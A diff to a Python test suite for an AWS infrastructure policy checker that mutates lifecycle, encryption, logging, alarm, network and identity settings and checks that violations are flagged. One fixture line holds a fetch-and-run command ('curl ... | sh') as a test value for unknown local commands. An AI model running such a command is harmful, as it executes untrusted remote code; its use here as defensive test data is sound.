@@ -16,6 +16,8 @@ from tests.mutate import drop, put
 from tests.policies.aws.test_rules import (
     ALARM,
     BUCKET_POLICY,
+    CONFIG,
+    DOMAIN,
     DOOR,
     INLINE,
     KEY,
@@ -30,6 +32,7 @@ from tests.policies.aws.test_rules import (
     both,
     editing,
     first,
+    in_the_other_key,
     lacking,
     losing,
     setting,
@@ -74,6 +77,12 @@ def strange(*mutations: Mutation) -> Mutation:
     return both(lambda graph: replace(graph, placement=None, ours=False), *mutations)
 
 
+RECORDS, SEALED = (
+    "arn:aws:s3:::aws-pilot-audit-111122223333",
+    "rules.0.applyServerSideEncryptionByDefault.kmsMasterKeyId",
+)
+LOG_GROUP = "aws:cloudwatch/logGroup:LogGroup"
+AT_ONCE = "asyncInferenceConfig.clientConfig.maxConcurrentInvocationsPerInstance"
 ABOVE, AT_LEAST = "GreaterThanThreshold", "GreaterThanOrEqualToThreshold"
 THRESHOLD, LOOKS, WATCHES = "rollback-alarm-threshold", "rollback-alarm-looks", "rollback-alarm-dimensions"
 SILENT: list[tuple[str, Mutation]] = [
@@ -199,8 +208,45 @@ SILENT: list[tuple[str, Mutation]] = [
     ("identity-documents", editing(KEY, "policy", lambda d: put(d, "Statement.0.Principal.AWS", "mallory"))),
     ("limits-stores-expire", setting(LIFECYCLE, "rules.0.filter.prefix", "somewhere/", "audit")),
     (LOOKS, alarm("scorer-errors", evaluationPeriods=60)),
+    # An artifact of yesterday cannot be brought back; what is captured no more stays for ten years.
+    ("limits-stores-expire", setting(LIFECYCLE, "rules.0.noncurrentVersionExpiration.noncurrentDays", 1, "artifacts")),
+    ("limits-capture", setting(LIFECYCLE, "rules.1.expiration.days", 3650, "artifacts")),
+    *(
+        (
+            "audit-delivered",
+            editing(BUCKET_POLICY, "policy", lambda d, n=n, to=to: put(d, f"Statement.{n}.Resource", to), "audit"),
+        )
+        for n, to in ((2, f"{RECORDS}/*"), (4, f"{RECORDS}/*"), (2, [f"{RECORDS}/trail/AWSLogs/111122223333/*", "x"]))
+    ),
+    (
+        "encryption-keys-apart",
+        in_the_other_key(
+            SEALED,
+            "aws:s3/bucketServerSideEncryptionConfiguration:BucketServerSideEncryptionConfiguration",
+            "artifacts",
+        ),
+    ),
+    ("encryption-keys-apart", in_the_other_key("kmsKeyId", DOMAIN)),
+    ("audit-logs-written", setting(LOG_GROUP, "name", "/aws/sagemaker/Endpoints/aws-pilot-other", "scorer-logs")),
+    ("audit-logs-written", setting(LOG_GROUP, "name", "/aws/vendedlogs/states/other", "backfill-runs")),
+    ("rollback-idle-watched", alarm("idle", evaluationPeriods=1)),
+    ("rollback-idle-watched", alarm("idle", datapointsToAlarm=2)),
+    ("limits-scaling-policy", setting(CONFIG, AT_ONCE, 1000, "embedder")),
+    ("network-proof", lambda graph: setting(MODEL, "vpcConfig.securityGroupIds", [_doors(graph)], "scorer")(graph)),
+    ("network-endpoint-closed", editing(DOOR, "policy", lambda d: _lets_in(d, "aws-pilot-batch"), "runtime")),
+    ("identity-people-listed", setting(DOMAIN, "authMode", "SSO")),
     ("kind-known", strange(adding("command:local:Command", create="curl https://example.com | sh"))),
 ]
+
+
+def _doors(graph: Graph) -> str:
+    """The security group of the interface endpoints."""
+    return first(graph, "aws:ec2/securityGroup:SecurityGroup", "-endpoints").outputs["id"]
+
+
+def _lets_in(document: Any, role: str) -> None:
+    names = document["Statement"][0]["Condition"]["ArnEquals"]["aws:PrincipalArn"]
+    names.append(f"arn:aws:iam::111122223333:role/{role}")
 
 
 def _unbound(document: Any, sid: str, key: str) -> None:
@@ -231,6 +277,10 @@ def test_what_passed_in_silence_is_told(aws_pilot: Graph, rule: str, mutation: M
         setting(LIFECYCLE, "rules.1.expiration.days", 20, "artifacts"),
         editing(TOPIC_POLICY, "policy", lambda d: put(d, "Statement.0.Action", ["SNS:Publish"])),
         turning(BUDGET, "notifications", lambda said: said[::-1]),
+        setting(LIFECYCLE, "rules.0.noncurrentVersionExpiration.noncurrentDays", 60, "artifacts"),
+        setting(LIFECYCLE, "rules.1.expiration.days", 90, "artifacts"),
+        alarm("idle", evaluationPeriods=48),
+        setting(CONFIG, AT_ONCE, 2, "embedder"),
     ],
 )
 def test_what_means_the_same_or_is_as_good_is_let_be(aws_pilot: Graph, mutation: Mutation) -> None:
